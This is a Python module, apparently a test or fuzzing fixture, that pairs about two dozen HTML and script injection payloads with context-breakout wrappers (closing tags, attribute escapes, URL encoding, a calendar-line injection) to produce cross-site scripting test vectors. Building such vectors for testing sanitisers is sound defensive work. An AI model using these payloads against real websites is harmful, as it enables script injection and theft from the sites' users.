"""Texts that try to become part of the page: each element or attribute of theirs is called zz."""

from collections.abc import Callable
from urllib.parse import quote

PAYLOADS = [
    "<script zz>zz()</script>",
    "<img zz src=x onerror=zz()>",
    "<svg zz onload=zz()>",
    "<svg zz><script>zz()</script></svg>",
    "<math zz><mtext><zz-a onclick=zz()>",
    "<iframe zz srcdoc='<script>zz()</script>'></iframe>",
    "<object zz data=javascript:zz()></object>",
    "<embed zz src=javascript:zz()>",
    "<a zz href=javascript:zz()>zz</a>",
    "<a zz href='java\tscript:zz()'>zz</a>",
    "<form zz action=javascript:zz()><button>zz",
    "<base zz href=//zz.example/>",
    "<meta zz http-equiv=refresh content='0;url=javascript:zz()'>",
    "<link zz rel=stylesheet href=//zz.example/>",
    "<style zz>*{background:url(//zz.example)}</style>",
    "<details zz open ontoggle=zz()>",
    "<input zz autofocus onfocus=zz()>",
    "<body zz onload=zz()>",
    "<template zz><script>zz()</script></template>",
    "<noscript zz><p title='</noscript><img zz src=x onerror=zz()>'>",
    "<!--><img zz src=x onerror=zz()>-->",
    "<![CDATA[<img zz src=x onerror=zz()>]]>",
    "<?xml version='1.0'?><zz onclick=zz()>",
    "{{ zz }}{% zz %}${zz()}#{zz()}<%= zz %>",
    "javascript:zz()//<img zz src=x onerror=zz()>",
]
# Out of which place the text tries to break.
WAYS_OUT: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: f'">{text}',
    lambda text: f"'>{text}",
    lambda text: f"` zz=1 onmouseover=zz() {text}",
    lambda text: f'" zz=1 onmouseover=zz() x="{text}',
    lambda text: f"</title></textarea></select></option>{text}",
    lambda text: f"</script>{text}",
    lambda text: f"--></style>]]>{text}",
    lambda text: text.upper().replace("ZZ", "zz"),
    lambda text: text.replace("<", "&lt;").replace("<", "\\u003c"),
    lambda text: quote(text),
    lambda text: f"\r\nATTENDEE;CN=zz:mailto:zz@zz.example\r\n{text}",
]
VECTORS = [way_out(payload) for payload in PAYLOADS for way_out in WAYS_OUT]
